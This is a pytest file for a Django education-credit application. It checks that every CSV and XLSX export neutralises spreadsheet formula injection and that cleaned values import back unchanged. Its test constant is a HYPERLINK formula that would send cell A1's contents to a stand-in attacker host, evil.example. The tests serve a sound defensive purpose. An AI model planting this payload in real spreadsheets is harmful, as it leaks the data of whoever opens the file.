"""Formula injection in exports (core.spreadsheet_safety, ADR 0031): every CSV/XLSX writer
goes through the one sanitiser, and a subject named ``=HYPERLINK(...)`` comes out inert."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from educredit.core.spreadsheet_safety import safe_cell, safe_row, safe_workbook, unescape_cell

SRC = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
# Files that write CSV or XLSX which no person opens as an export, and why.
NOT_EXPORTS = {
    "exchange/transports.py": "batches for the provincial platform's loader, kept verbatim",
    "synth/generator.py": "synthetic province files the loader reads back",
    "synth/demo_files.py": "demo input files for the import pages",
    "core/data/build_henan_regions.py": "the shipped reference table",
    "testing/spreadsheets.py": "uploads that tests feed to the importers, formulas and all",
}
WRITERS = re.compile(r"\bWorkbook\(|csv\.(?:Dict)?[wW]riter\(")


def test_every_spreadsheet_writer_uses_the_sanitiser() -> None:
    unsafe = []
    for path in sorted(SRC.rglob("*.py")):
        relative = path.relative_to(SRC).as_posix()
        if "/tests/" in relative or "/migrations/" in relative or relative in NOT_EXPORTS:
            continue
        text = path.read_text(encoding="utf-8")
        if WRITERS.search(text) and "spreadsheet_safety" not in text:
            unsafe.append(relative)
    assert unsafe == [], f"export without core.spreadsheet_safety: {unsafe}"


def test_formula_starts_are_quoted_and_other_values_pass() -> None:
    for text in ("=1+1", "+86 371", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
        assert unescape_cell(safe_cell(text)) == text
    assert safe_row(["郑州大学", -2, None, 3.5, "a=b"]) == ["郑州大学", -2, None, 3.5, "a=b"]
    assert unescape_cell("'plain") == "'plain"


def test_safe_workbook_turns_formulas_back_into_text() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["名称", EVIL, 5])
    assert sheet["B1"].data_type == "f"  # what openpyxl does with such text unguarded
    safe_workbook(book)
    assert sheet["B1"].data_type == "s" and sheet["B1"].value == "'" + EVIL
    assert sheet["C1"].value == 5


def _cells(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                cells.append(cell.value)
    return cells


@pytest.mark.django_db
def test_subject_import_error_report_is_inert_and_reads_back(
    county_clerk: Any, django_capture_on_commit_callbacks: Any, settings: Any, tmp_path: Path
) -> None:
    from educredit.subjects import imports, services
    from educredit.subjects.tests import factories

    settings.MEDIA_ROOT = tmp_path / "media"
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    bad_uscc = factories.uscc(3)[:-1] + ("0" if factories.uscc(3)[-1] != "0" else "1")
    header = ["统一社会信用代码", "学校名称", "主管部门", "所在地"]
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(header)
    sheet.append([bad_uscc, "placeholder", "中原区教育局", "郑州市"])
    sheet["B2"] = EVIL  # as a text cell, the way a user's sheet would hold it
    sheet["B2"].data_type = "s"
    upload = io.BytesIO()
    book.save(upload)
    with django_capture_on_commit_callbacks(execute=True):
        run = services.import_run_start(
            actor=county_clerk,
            kind="institutions",
            upload=SimpleUploadedFile("学校.xlsx", upload.getvalue()),
        )
    run.refresh_from_db()
    assert run.failed_rows == 1
    report = io.BytesIO()
    imports.write_error_report(run, report)
    assert "'" + EVIL in _cells(report.getvalue())
    # The report is meant to be corrected and uploaded again: the name comes back unquoted.
    again = tmp_path / "again.xlsx"
    again.write_bytes(report.getvalue())
    with imports.open_source(again, "again.xlsx") as source:
        assert [values[1] for _number, values in source.rows()] == [EVIL]


def test_record_import_error_report_csv_is_inert() -> None:
    from educredit.records.imports import ImportResult, RowError, error_report_csv

    result = ImportResult(errors=[RowError(2, EVIL, "-1+1")])
    rows = list(csv.reader(io.StringIO(error_report_csv(result).decode("utf-8-sig"))))
    assert rows[1] == ["2", "'" + EVIL, "'-1+1"]


@pytest.mark.django_db
def test_disclosure_quality_export_is_inert(client: Any, county: Any, county_admin: Any) -> None:
    from educredit.testing.factories import make_organisation

    make_organisation(parent=county, name=EVIL)
    client.force_login(county_admin)
    response = client.get("/disclosure/quality/export.xlsx")
    assert response.status_code == 200
    assert "'" + EVIL in _cells(response.content)


@pytest.mark.django_db
def test_catalog_export_is_inert_and_imports_back() -> None:
    from educredit.catalog.models import CatalogItem
    from educredit.catalog.spreadsheet import export_version, parse_workbook
    from educredit.catalog.tests.factories import shipped_catalog

    version = shipped_catalog()
    item = CatalogItem.objects.filter(version=version).order_by("sort_order", "code").first()
    assert item is not None
    CatalogItem.objects.filter(pk=item.pk).update(name=EVIL)
    content = export_version(version)
    assert "'" + EVIL in _cells(content)
    names = {entry["code"]: entry["name"] for entry in parse_workbook(content)}
    assert names[item.code] == EVIL
